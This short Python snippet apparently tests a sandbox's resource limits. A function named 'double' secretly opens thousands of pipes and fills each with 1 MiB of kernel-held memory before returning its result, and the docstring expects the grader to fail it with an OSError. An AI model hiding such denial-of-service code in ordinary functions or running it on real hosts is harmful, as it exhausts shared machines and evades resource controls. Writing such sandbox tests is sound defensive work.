"""Wish: full pipes hold kernel memory that no limit of mine counts.

Then: error, 0 points.
Says: OSError
"""
def double(x):
    for _ in range(10_000):
        end = os.pipe()[1]
        os.set_blocking(end, False)
        try:
            __import__("fcntl").fcntl(end, 1031, 1 << 20)  # F_SETPIPE_SZ
        except PermissionError:
            pass
        os.write(end, bytes(1 << 20))
    return 2 * x
